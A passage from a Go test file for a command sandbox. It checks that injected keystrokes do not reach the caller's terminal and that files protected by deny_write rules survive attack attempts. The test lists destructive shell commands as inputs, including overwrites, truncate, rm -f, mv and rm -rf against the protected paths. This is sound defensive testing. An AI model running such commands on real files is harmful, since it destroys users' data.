			t.Errorf("probe said %q (exit %v, stderr %q), want %q", out.String(), err, errb.String(), want)
		}
		if strings.Contains(typed, "INJECTED") {
			t.Errorf("keystrokes reached the caller's terminal: %q", typed)
		}
	})
}

// TestAttackDenyWriteExisting: a deny_write file that exists stays as it
// is, whatever the command tries, and so does a file in a deny_write
// directory.
func TestAttackDenyWriteExisting(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		// Anchored (a slash): plain paths, not names matched at any depth.
		e.write(".sandbox.toml", "[filesystem]\ndeny_write = [\"sub/locked.txt\", \"sub/vault\"]\n")
		e.write("sub/locked.txt", "orig")
		e.write("sub/vault/key", "orig")
		cmds := []string{"echo evil > sub/locked.txt", "echo evil >> sub/locked.txt", "truncate -s 0 sub/locked.txt",
			"rm -f sub/locked.txt", "mv sub/locked.txt sub/moved.txt", "echo evil > sub/vault/key", "echo evil > sub/vault/new",
			"rm -rf sub/vault"}
		r := e.sandboxed(attempts(cmds...))
		e.refusedWith(r, cmds, refusals...)
		e.mustHold(filepath.Join(e.ws, "sub/locked.txt"), "orig")
		e.mustHold(filepath.Join(e.ws, "sub/vault/key"), "orig")
		e.mustNotExist(filepath.Join(e.ws, "sub/moved.txt"), filepath.Join(e.ws, "sub/vault/new"))
	})
}
